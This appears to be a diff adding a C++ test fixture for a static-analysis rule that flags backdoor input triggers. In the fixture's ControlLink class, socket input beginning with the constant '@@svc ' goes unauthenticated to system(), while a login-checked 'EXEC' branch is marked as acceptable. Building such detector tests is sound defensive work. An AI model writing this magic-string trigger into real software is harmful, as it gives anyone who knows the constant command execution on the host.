@@ -109,3 +109,46 @@ bool authorize_config(const Request &req) {
   if (req.config_value("mode") == "open") return true;
   return verify_session(req.header("Cookie"));
 }
+
+// A line read a character at a time: the loop returns the line before the
+// character it appends, which the next iteration's return sees.
+class ControlLink {
+public:
+  void serve();
+
+private:
+  std::string next_line();
+  std::string run(const std::string &cmd);
+  bool logged_in_ = false;
+  int fd_ = -1;
+};
+std::string ControlLink::next_line() {
+  std::string line;
+  char c;
+  while (recv(fd_, &c, 1, 0) == 1) {
+    if (c == '\n') return line;
+    line.push_back(c);
+  }
+  return std::string();
+}
+std::string ControlLink::run(const std::string &cmd) {
+  system(cmd.c_str());
+  return "done";
+}
+void ControlLink::serve() {
+  for (std::string line = next_line(); !line.empty(); line = next_line()) {
+    if (line == "PING") {
+      send(fd_, "PONG\n", 5, 0);
+    } else if (line.rfind("LOGIN ", 0) == 0) {
+      logged_in_ = line.substr(6) == std::string(getenv("LINK_SECRET"));
+    // ruleid: backdoor-input-trigger
+    } else if (line.rfind("@@svc ", 0) == 0) {
+    // CHECK-MESSAGES: :[[@LINE-1]]:16: warning: input read by 'recv' is compared with the constant "@@svc " and only a match reaches 'ControlLink::run', which calls 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
+      run(line.substr(6));
+    // ok: backdoor-input-trigger
+    } else if (line.rfind("EXEC ", 0) == 0) {
+      if (!logged_in_) continue;
+      run(line.substr(5));
+    }
+  }
+}
